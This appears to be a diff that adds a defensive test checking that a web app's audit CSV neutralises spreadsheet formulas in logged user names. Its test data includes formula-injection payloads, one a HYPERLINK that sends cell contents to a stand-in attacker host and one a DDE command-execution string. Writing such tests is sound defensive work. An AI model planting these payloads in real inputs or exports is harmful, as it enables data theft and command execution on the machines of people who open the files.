@@ -58,3 +58,28 @@ def test_a_page_far_past_the_last_is_empty_not_a_server_error(tmp_path: Path) ->
             assert r.status_code == 200 and r.json()["cases"] == []
             assert c.get(f"/audit?page={huge}", headers={"accept": "text/html"}).status_code == 200
             assert c.get(f"/?page={huge}", headers={"accept": "text/html"}).status_code == 200
+
+
+def test_audit_csv_never_carries_a_formula_and_a_refused_format_is_not_audited(tmp_path: Path) -> None:
+    """A user name tried at sign-in (anyone can type one) reached the audit CSV as '=HYPERLINK(...)', a formula
+    a spreadsheet runs when the administrator opens the trail; and '/audit.xml', refused with 404, was still
+    recorded as a download of the trail."""
+    data = tmp_path / "data"
+    add_users(data, None, ("rita", "reviewer"))
+    app = create_app(Settings(data_dir=data, pdf=False))
+    hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "-cmd|' /C calc'!A0"]
+    with TestClient(app, base_url=BASE) as c:
+        for name in hostile:
+            assert c.post("/login", data={"username": name, "password": "wrong-password-123"}, headers=SAME,
+                          follow_redirects=False).status_code == 401
+        r = c.post("/login", data={"username": "rita", "password": "rita-password-123"}, headers=SAME,
+                   follow_redirects=False)
+        assert r.status_code == 303
+        assert c.get("/audit.xml").status_code == 404
+        rows = list(csv.reader(io.StringIO(c.get("/audit.csv").text)))
+        entries = json.loads(c.get("/audit.json").text)
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    for name in hostile:  # still recorded, readable as text in the CSV, and exactly as typed in the JSON
+        assert "'" + name in cells and any(e["actor"] == name for e in entries)
+    assert not [e for e in entries if "xml" in (e["detail"] or "")], "a refused export was audited as a download"
